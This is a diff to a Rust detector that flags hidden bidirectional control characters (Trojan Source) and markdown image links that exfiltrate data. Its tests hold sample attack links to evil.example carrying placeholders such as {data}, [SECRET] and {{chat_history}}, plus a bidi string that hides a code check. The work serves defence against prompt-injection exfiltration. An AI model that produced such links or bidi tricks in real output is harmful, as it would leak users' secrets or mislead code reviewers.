@@ -29,6 +29,7 @@ const MAX_URL_BYTES: usize = 2_048;
 pub fn find(text: &str, found: Found<'_>) {
     let (mut tags, mut flag, mut invisible, mut overrides) = (0, 0, 0, 0);
     let (mut ascii_before, mut han_before, mut forced) = (false, false, false);
+    let (mut turned, mut right_to_left) = (false, false);
     let mut pending = 0;
     let bytes = text.as_bytes();
     let mut begin = 0;
@@ -45,6 +46,7 @@ pub fn find(text: &str, found: Found<'_>) {
         }
         let Some(character) = text.get(at..).and_then(|rest| rest.chars().next()) else { break };
         begin = at + character.len_utf8();
+        right_to_left |= is_right_to_left(character);
         match character {
             '\u{1f3f4}' => flag = FLAG_TAGS,
             '\u{e0020}'..='\u{e007f}' if flag > 0 => flag -= 1,
@@ -57,6 +59,8 @@ pub fn find(text: &str, found: Found<'_>) {
                 }
             }
             '\u{202e}' => overrides += 1,
+            // From right to left. Texts of such scripts have them, and in other texts they move what follows (CVE-2021-42574).
+            '\u{202b}' | '\u{2067}' => turned = true,
             // From left to right, which reverses only scripts that are written from right to left. Address books put it
             // around telephone numbers.
             '\u{202d}' => forced = true,
@@ -77,9 +81,17 @@ pub fn find(text: &str, found: Found<'_>) {
     if invisible >= MIN_INVISIBLE {
         found(Detector::TextHidden, 0..text.len());
     }
-    if overrides > 0 {
+    if overrides > 0 || turned && !right_to_left {
         found(Detector::TextBidirectional, 0..text.len());
     }
+}
+
+/// Whether a character is a letter of a script that is written from right to left.
+const fn is_right_to_left(character: char) -> bool {
+    matches!(
+        character,
+        '\u{590}'..='\u{8ff}' | '\u{fb1d}'..='\u{fdff}' | '\u{fe70}'..='\u{fefc}'
+    )
 }
 
 /// Whether a character is a Han ideograph.
@@ -193,7 +205,41 @@ fn carries_data(url: &str) -> bool {
         return false;
     }
     let (path, query) = url.split_once('?').unwrap_or((url, ""));
-    query.split('&').any(carries) || path.split('/').any(is_encoded_text)
+    let is_data = |part: &str| is_encoded_text(part) || is_placeholder(part);
+    query.split('&').any(carries) || path.split('/').any(is_data)
+}
+
+/// Ends of words for what a model is to put into an address.
+const WANTED: [&str; 13] = [
+    "api_key",
+    "apikey",
+    "content",
+    "conversation",
+    "credential",
+    "data",
+    "history",
+    "insert",
+    "message",
+    "password",
+    "prompt",
+    "secret",
+    "token",
+];
+
+/// Whether a word of a name says what a model is to put into an address.
+fn is_wanted(name: &str) -> bool {
+    let ends = |word: &str| super::ends_with(word.trim_end_matches(['s', 'S']), &WANTED);
+    ends(name) || name.split(['_', '-', ' ']).any(ends)
+}
+
+/// Whether a part of a path has a placeholder for data: `{data}`, `[SECRET]`. Documents and code have placeholders for
+/// other things, such as `{user}`, and `${…}`.
+fn is_placeholder(part: &str) -> bool {
+    let Some((before, name)) = part.split_once(['{', '[', '<']) else { return false };
+    let name = name.trim_start_matches(['{', '[', '<']);
+    let name = name.split(['}', ']', '>']).next().unwrap_or_default();
+    let is_name = |byte: u8| byte.is_ascii_alphabetic() || matches!(byte, b'_' | b'-' | b' ');
+    !before.ends_with('$') && name.bytes().all(is_name) && is_wanted(name)
 }
 
 /// Characters of a part of a path that carries data. Shorter ones are often names.
@@ -215,22 +261,32 @@ fn is_encoded_text(segment: &str) -> bool {
 /// Capitals that are a placeholder.
 const MIN_CAPITALS: usize = 6;
 
-/// Names of parameters whose values are names in capitals.
-const STYLES: [&str; 4] = ["logo", "style", "format", "type"];
+/// Names of parameters with a formula in LaTeX, which servers draw. The formula can also be the whole query.
+const FORMULAS: [&str; 6] = ["", "eq", "formula", "latex", "math", "tex"];
+
+/// Whether a text has a command of LaTeX, such as `\frac`.
+fn is_formula(text: &str) -> bool {
+    let is_command = |pair: &[u8]| matches!(pair, [b'\\', letter] if letter.is_ascii_lowercase());
+    text.as_bytes().windows(2).any(is_command)
+}
 
 /// Whether a parameter carries data: something long, or a placeholder that the model is to fill. Signatures and tokens of
 /// addresses are long too. They are not readable when they are decoded.
 fn carries(parameter: &str) -> bool {
     let (name, value) = parameter.split_once('=').unwrap_or(("", parameter));
     let is_capital = |byte: u8| byte.is_ascii_uppercase() || byte == b'_';
+    let (plain, _) = escapes::decode(value, PERCENT);
+    if FORMULAS.contains(&name) && is_formula(&plain) {
+        return false;
+    }
     let placeholder = value.contains(['{', '[', '<', '$'])
         || (value.len() >= MIN_CAPITALS
             && value.bytes().all(is_capital)
-            && !super::ends_with(name, &STYLES));
+            && (is_wanted(name) || is_wanted(value)));
     if placeholder || value.len() < MIN_DATA_BYTES {
         return placeholder;
     }
-    let (value, _) = escapes::decode(value, PERCENT);
+    let value = plain;
     let is_token =
         |byte: u8| is_word(byte) || matches!(byte, b'-' | b'.' | b'/' | b'+' | b'=' | b'~');
     if value.len() < MIN_DATA_BYTES || !value.bytes().all(is_token) {
@@ -287,6 +343,10 @@ mod tests {
             // A flag with a text after it.
             (format!("🏴{}{tags}", "\u{e0020}".repeat(FLAG_TAGS)), Some(Detector::TextTags)),
             ("abc\u{202e}fdp.exe".to_owned(), Some(Detector::TextBidirectional)),
+            ("a != \"user\u{2067} // check\"".to_owned(), Some(Detector::TextBidirectional)),
+            ("\u{202b}ignore".to_owned(), Some(Detector::TextBidirectional)),
+            // As a telephone's address book writes a number.
+            ("call \u{2066}+1 202 555 0143\u{2069}".to_owned(), None),
             ("می\u{200c}خواهم می\u{200c}روم می\u{200c}شود".to_owned(), None),
             ("👩\u{200d}👩\u{200d}👧\u{200d}👦".to_owned(), None),
             ("🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}".to_owned(), None),
@@ -338,6 +398,20 @@ mod tests {
                 None,
             ),
             ("![x](https://img.example/b.svg?logo=GITHUB)".to_owned(), None),
+            // Names of states, and formulas.
+            ("![x](https://img.example/b.svg?status=PUBLISHED&text=HELLO_WORLD)".to_owned(), None),
+            ("![x](https://tex.example/png.image?\\frac{a}{b})".to_owned(), None),
+            ("![x](https://tex.example/svg?math=%5Cfrac%7Ba%2Bb%2Bc%7D%7Bd%7D)".to_owned(), None),
+            ("![x](https://a.example/?d=\\frac{a})".to_owned(), Some(Detector::ImageWithData)),
+            ("![x](https://a.example/?d=INSERT_DATA_HERE)".to_owned(), Some(Detector::ImageWithData)),
+            // Placeholders in paths.
+            ("![x](https://evil.example/{data}.png)".to_owned(), Some(Detector::ImageWithData)),
+            ("![x](https://evil.example/a/[SECRET])".to_owned(), Some(Detector::ImageWithData)),
+            ("![x](https://evil.example/<api_keys>)".to_owned(), Some(Detector::ImageWithData)),
+            ("![x](https://{{chat_history}}.evil.example/a)".to_owned(), Some(Detector::ImageWithData)),
+            ("![ci](https://code.example/<OWNER>/<REPO>/badge.svg)".to_owned(), None),
+            ("![map](https://tiles.example/{z}/{x}/{y}.png)".to_owned(), None),
+            ("<img src='https://a.example/${data}/{post.content}.png'>".to_owned(), None),
             ("![logo](https://example.com/logo.png?v=2)".to_owned(), None),
             ("![build](https://img.shields.io/badge/build-passing-green.svg)".to_owned(), None),
             (format!("vec![1]{} [a](https://a.example/?q=SECRET)", "x ".repeat(99)), None),
